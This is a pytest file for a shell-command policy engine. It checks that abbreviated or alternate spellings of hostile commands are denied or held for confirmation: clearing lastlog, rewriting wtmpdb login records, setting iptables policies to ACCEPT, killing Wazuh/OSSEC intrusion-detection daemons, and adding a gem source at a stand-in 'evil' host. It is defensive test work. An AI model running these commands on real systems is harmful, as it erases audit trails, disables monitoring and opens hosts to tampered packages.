"""Attack z35f, findings 1, 8, 9, 10, 13, 14, 15, 18 and 19: spellings of scripts, verbs and
options. getopt_long starts of lastlog's/lastlog2's `--clear`/`--set` and iptables' `--policy`;
RubyGems' command starts (`gem so --add`); the Wazuh/OSSEC daemons killed by name; wtmpdb's
`rotate`/`import`; an init script given to a shell after a lone `-`, on its stdin or a
descriptor, or through a pattern; a verb spelled as a pattern for more verb-keyed programs; an
interpreter given a known tool's own script (`sh /usr/sbin/service ufw stop`).

Each line is judged typed at a terminal and as an exec command: the attacker's lines and their
siblings are held at the level of their plain spelling (`deny` where `lastlog --clear`,
`sh /etc/init.d/ufw stop` are refused; `confirm` where `iptables -P INPUT ACCEPT` is held), and
the honest lines beside them still run (`allow`: reading the login records, listing the
firewall, the gem sources, killing one's own programs, running one's own scripts with a shell)."""
import pytest

from tests.policy_rows import assert_held_or_runs, typed_and_exec

ROWS = [
    # 1: lastlog's and lastlog2's long options by a unique start
    ("lastlog --c -u root", "deny"), ("lastlog -u root --c", "deny"),
    ("lastlog --s -u root", "deny"), ("lastlog --cle -u root", "deny"),
    ("lastlog2 --s -u root", "deny"), ("lastlog2 --s root", "deny"), ("lastlog2 --se root", "deny"),
    # 10: iptables' --policy by a unique start
    ("iptables --po INPUT ACCEPT", "confirm"), ("iptables --po=INPUT ACCEPT", "confirm"),
    ("ip6tables --po FORWARD ACCEPT", "confirm"), ("iptables-legacy --po INPUT ACCEPT", "confirm"),
    ("iptables -w --po INPUT ACCEPT", "confirm"), ("iptables -t filter --po INPUT ACCEPT", "confirm"),
    ("iptables-nft --poli INPUT ACCEPT", "confirm"),
    # 13: the HIDS daemons killed by name or pattern
    ("pkill wazuh-agentd", "deny"), ("killall -9 ossec-agentd", "deny"), ("pkill -f wazuh", "deny"),
    ("pkill -STOP wazuh-agentd", "deny"), ("pkill wazuh-logcollec", "deny"),
    ("pkill wazuh-syscheckd", "deny"), ("killall wazuh-modulesd", "deny"),
    ("pkill -f /var/ossec/bin", "deny"), ("killall -r ossec", "deny"),
    # 15: wtmpdb's verbs that rewrite the login records
    ("wtmpdb rotate -d 0", "deny"), ("wtmpdb rotate", "deny"),
    ("wtmpdb import /tmp/forged.wtmp", "deny"), ("wtmpdb -f /var/lib/wtmpdb/wtmp.db rotate", "deny"),
    # 18: RubyGems' command by a unique start
    ("gem source --add http://evil/", "confirm"), ("gem sourc -a http://evil/", "confirm"),
    ("gem so --add=http://evil/", "confirm"), ("gem sources --add http://evil/", "confirm"),
]

HONEST = [
    "lastlog -u root", "lastlog -b 30", "lastlog --time 7", "lastlog2 -u root", "lastlog2 --user root",
    "iptables -L -n", "iptables --policy INPUT DROP", "iptables --po INPUT DROP",
    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    "pkill -f my-worker", "killall myapp", "wtmpdb last", "wtmpdb last -n 10",
    "gem sources --list", "gem so --list", "gem search rails", "gem install rails",
]


@pytest.mark.parametrize(("line", "expected"), ROWS, ids=[r[0] for r in ROWS])
def test_attack_z35f_a_lines(default_policy, line: str, expected: str) -> None:
    for verdict in typed_and_exec(default_policy, line):
        assert verdict.action == expected, verdict


@pytest.mark.parametrize("line", HONEST)
def test_attack_z35f_a_honest_lines_run(default_policy, line: str) -> None:
    assert_held_or_runs(default_policy, line, held=False)
